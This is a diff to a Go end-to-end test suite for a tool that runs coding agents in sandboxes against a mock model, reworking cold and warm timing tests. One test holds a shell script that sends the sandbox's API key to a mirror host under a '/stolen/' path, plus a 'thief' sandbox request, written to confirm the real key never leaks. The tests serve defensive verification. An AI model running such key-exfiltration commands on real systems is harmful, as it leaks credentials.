@@ -335,8 +335,9 @@ func TestAgentsWholeFlow(t *testing.T) {
 	record("agents: run with the node image, no install (node --version)", base.took)
 	t.Logf("the image: node %s", strings.ReplaceAll(strings.TrimSpace(base.stdout), "\n", ", npm "))
 
-	t.Run("claude", func(t *testing.T) { s.claudeWholeFlow(ctx, t, rig, base) })
-	t.Run("claude, the model fails, cold and warm", func(t *testing.T) { s.claudeModelFails(ctx, t, rig) })
+	var cold result
+	t.Run("claude", func(t *testing.T) { cold = s.claudeWholeFlow(ctx, t, rig, base) })
+	t.Run("claude, warm, the model fails", func(t *testing.T) { s.claudeWarmClaimFails(ctx, t, rig, cold) })
 	t.Run("codex", func(t *testing.T) { s.codexWholeFlow(ctx, t, rig, base) })
 
 	// Without the registry among the allowed hosts the proxy refuses it:
@@ -364,6 +365,8 @@ func TestAgentsWholeFlow(t *testing.T) {
 func (s *suite) injectedKeyStaysOut(ctx context.Context, t *testing.T, rig *agentRig) {
 	c, cancel := context.WithTimeout(ctx, 2*podRunningTimeout)
 	defer cancel()
+	// No Content-Type header: busybox 1.35's wget then sends GET, body
+	// and all; the mock reads JSON whatever the type says.
 	const body = `{"model":"%s","max_tokens":8,"messages":[{"role":"user","content":"hi"}]}`
 	r := s.pluginRunEnv(c, []string{"ANTHROPIC_API_KEY=" + rig.realKey}, append([]string{"create", "rn-keyholder", "-n", agentsNS,
 		"--image", SandboxImage, "--cpu", "100m", "--memory", "64Mi",
@@ -379,7 +382,7 @@ func (s *suite) injectedKeyStaysOut(ctx context.Context, t *testing.T, rig *agen
 	})
 	script := `env | grep '^ANTHROPIC_' | sort
 wget -q -O- "http://` + mirrorHost + `:` + mirrorPort + `/stolen/$ANTHROPIC_API_KEY" 2>&1; echo
-wget -q -O- --header "X-Api-Key: stolen-by-the-sandbox" --header "Content-Type: application/json" --post-data '` + fmt.Sprintf(body, "keyholder") + `' "$ANTHROPIC_BASE_URL/v1/messages"`
+wget -q -O- --header "X-Api-Key: stolen-by-the-sandbox" --post-data '` + fmt.Sprintf(body, "keyholder") + `' "$ANTHROPIC_BASE_URL/v1/messages"`
 	held := s.pluginRun(c, "", "exec", "rn-keyholder", "-n", agentsNS, "--", "sh", "-c", script)
 	t.Logf("the key holder:\n%s", held.stdout)
 	if strings.Contains(held.stdout+held.stderr, rig.realKey) {
@@ -400,7 +403,7 @@ wget -q -O- --header "X-Api-Key: stolen-by-the-sandbox" --header "Content-Type: 
 	}
 
 	// A second sandbox, fenced the same way, without the grant.
-	thief := `wget -q -O- --header "X-Api-Key: guessed" --header "Content-Type: application/json" --post-data '` + fmt.Sprintf(body, "thief") + `' "` + rig.injectedBaseURL() + `/v1/messages" 2>&1; echo "wget exit $?"`
+	thief := `wget -q -O- --header "X-Api-Key: guessed" --post-data '` + fmt.Sprintf(body, "thief") + `' "` + rig.injectedBaseURL() + `/v1/messages" 2>&1; echo "wget exit $?"`
 	r = s.pluginRun(c, "", append(append([]string{"run", "rn-thief", "-n", agentsNS, "--image", SandboxImage, "--cpu", "100m", "--memory", "64Mi",
 		"--allow-host", mirrorHost + ":" + mirrorPort}, rig.proxyEnv()...), "--", "sh", "-c", thief)...)
 	t.Logf("the second sandbox: %s", r)
@@ -456,8 +459,8 @@ func flowRepo(t *testing.T) (repo, out string) {
 }
 
 // claudeWholeFlow: the flow, its key injected; the sandbox kept to read its
-// usage, then deleted.
-func (s *suite) claudeWholeFlow(ctx context.Context, t *testing.T, rig *agentRig, base result) {
+// usage, then deleted. It returns the run.
+func (s *suite) claudeWholeFlow(ctx context.Context, t *testing.T, rig *agentRig, base result) result {
 	repo, out := flowRepo(t)
 	c, cancel := context.WithTimeout(ctx, installTimeout)
 	defer cancel()
@@ -471,6 +474,7 @@ func (s *suite) claudeWholeFlow(ctx context.Context, t *testing.T, rig *agentRig
 		t.Fatalf("run --agent claude -- claude -p: %s\nmodel log:\n%s\nregistry log:\n%s\n%s", r, rig.modelLog(), rig.mirrorLog(), s.node.Diagnostics())
 	}
 	record("agents: run --agent claude, cold (install + a 4-turn conversation)", r.took)
+	record("agents: run --agent claude, cold: to the agent's command (create, install, copy in)", r.commandAt)
 	t.Logf("run --agent claude took %s, the image alone %s (TCG)", r.took.Round(time.Second), base.took.Round(time.Second))
 	if !strings.Contains(r.stdout, agentmock.FinalText) {
 		t.Errorf("claude's output lacks the conversation's final text %q: %s", agentmock.FinalText, r)
@@ -517,6 +521,7 @@ func (s *suite) claudeWholeFlow(ctx context.Context, t *testing.T, rig *agentRig
 		t.Errorf("delete: %s", d)
 	}
 	s.sandboxGoneIn(ctx, t, agentsNS, "rn-claude")
+	return r
 }
 
 // sumField adds up every number named name anywhere in the JSON document.
@@ -546,40 +551,15 @@ func sumField(doc, name string) float64 {
 	return sum
 }
 
-// claudeModelFails: a model that answers 500 (the mock, for failKey): the
-// agent's failure and exit status, the repository still copied out —
-// cold, then claimed from a pool whose member installed Claude Code as it
-// warmed up. Both end at the first model request, so their times compare
-// the two ways to it.
-func (s *suite) claudeModelFails(ctx context.Context, t *testing.T, rig *agentRig) {
-	check := func(t *testing.T, what string, r result, out string) {
-		t.Helper()
-		// Claude Code exits 1 on an API error; run exits with its status.
-		if r.code != 1 {
-			t.Fatalf("%s with a failing model: want the agent's exit status 1: %s\nmodel log:\n%s\n%s", what, r, rig.modelLog(), s.node.Diagnostics())
-		}
-		if !strings.Contains(r.stdout+r.stderr, "500") {
-			t.Errorf("%s: the user is not told of the model's 500: %s", what, r)
-		}
-		if got := readGreeting(t, filepath.Join(out, "repo")); got != agentmock.OldGreeting {
-			t.Errorf("%s: the copied-out greeting.txt says %q, want it untouched (%q)", what, got, agentmock.OldGreeting)
-		}
-	}
-	env := []string{"ANTHROPIC_API_KEY=" + rig.failKey}
-	failed := len(linesWith(rig.modelLog(), "status=500", keyField(rig.failKey)))
-
-	repo, out := flowRepo(t)
+// claudeWarmClaimFails: a pool whose member installed Claude Code as it
+// warmed up, without a key; a claim of it runs the flow against a model
+// that answers 500 (the mock, for failKey): the agent's failure and exit
+// status, the repository still copied out. Its time to the command, warm,
+// is the cold flow's counterpart (claudeWholeFlow).
+func (s *suite) claudeWarmClaimFails(ctx context.Context, t *testing.T, rig *agentRig, cold result) {
 	c, cancel := context.WithTimeout(ctx, installTimeout)
 	defer cancel()
-	cold := s.pluginRunEnv(c, env, rig.claudeArgs("rn-claude-fails", "", repo, out)...)
-	check(t, "cold", cold, out)
-	record("agents: run --agent claude, cold, to the model's first answer (a 500)", cold.took)
-	s.sandboxGoneIn(ctx, t, agentsNS, "rn-claude-fails")
-
-	// The pool's member runs the install as it warms up, without a key.
-	c2, cancel2 := context.WithTimeout(ctx, installTimeout)
-	defer cancel2()
-	pool := s.pluginRun(c2, "", append(append([]string{"pool", "create", "rn-warm", "-n", agentsNS, "--agent", "claude", "--size", "1",
+	pool := s.pluginRun(c, "", append(append([]string{"pool", "create", "rn-warm", "-n", agentsNS, "--agent", "claude", "--size", "1",
 		"--timeout", installTimeout.String()}, rig.claudeSandboxFlags()...), agentSize...)...)
 	if pool.code != 0 {
 		t.Fatalf("pool create --agent claude: %s\n%s", pool, s.node.Diagnostics())
@@ -591,20 +571,31 @@ func (s *suite) claudeModelFails(ctx context.Context, t *testing.T, rig *agentRi
 	})
 	record("agents: pool create --agent claude --size 1 (→ ready, installed)", pool.took)
 
-	repo, out = flowRepo(t)
-	warm := s.pluginRunEnv(c2, env, rig.claudeArgs("rn-claude-warm", "rn-warm", repo, out)...)
-	// The refill a claim starts installs beside what is measured: delete
-	// the pool now.
+	repo, out := flowRepo(t)
+	failed := len(linesWith(rig.modelLog(), "status=500", keyField(rig.failKey)))
+	r := s.pluginRunEnv(c, []string{"ANTHROPIC_API_KEY=" + rig.failKey}, rig.claudeArgs("rn-claude-warm", "rn-warm", repo, out)...)
+	// The claim made a replacement, which installs in turn: it would
+	// only slow what follows.
 	_ = s.pluginRun(ctx, "", "pool", "delete", "rn-warm", "-n", agentsNS)
-	check(t, "warm", warm, out)
-	if !strings.Contains(warm.stderr, "warm") {
-		t.Errorf("run --pool should say it claimed a warm member: %s", warm)
+	// Claude Code exits 1 on an API error; run exits with its status.
+	if r.code != 1 {
+		t.Fatalf("run --pool with a failing model: want the agent's exit status 1: %s\nmodel log:\n%s\n%s", r, rig.modelLog(), s.node.Diagnostics())
 	}
-	record("agents: run --pool --agent claude, warm, to the model's first answer (a 500)", warm.took)
-	t.Logf("to the model's first answer: cold %s, warm %s (TCG)", cold.took.Round(time.Second), warm.took.Round(time.Second))
-	if got := len(linesWith(rig.modelLog(), "status=500", keyField(rig.failKey))); got < failed+2 {
-		t.Errorf("the model should have refused the claim's key twice more (%s), got %d:\n%s", keyField(rig.failKey), got-failed, rig.modelLog())
+	if !strings.Contains(r.stdout+r.stderr, "500") {
+		t.Errorf("the user is not told of the model's 500: %s", r)
 	}
+	if !strings.Contains(r.stderr, "claimed warm") {
+		t.Errorf("run --pool should say it claimed a warm member: %s", r)
+	}
+	if got := readGreeting(t, filepath.Join(out, "repo")); got != agentmock.OldGreeting {
+		t.Errorf("the copied-out greeting.txt says %q, want it untouched (%q)", got, agentmock.OldGreeting)
+	}
+	if got := len(linesWith(rig.modelLog(), "status=500", keyField(rig.failKey))); got != failed+1 {
+		t.Errorf("the model should have refused the claim's key (%s) once, CLAUDE_CODE_MAX_RETRIES=0; it did %d times:\n%s", keyField(rig.failKey), got-failed, rig.modelLog())
+	}
+	record("agents: run --pool --agent claude, warm, a model answering 500 (→ exit 1)", r.took)
+	record("agents: run --pool --agent claude, warm: to the agent's command (claim, copy in)", r.commandAt)
+	t.Logf("to the agent's command: cold %s, warm %s (TCG)", cold.commandAt.Round(time.Second), r.commandAt.Round(time.Second))
 	s.sandboxGoneIn(ctx, t, agentsNS, "rn-claude-warm")
 }
 
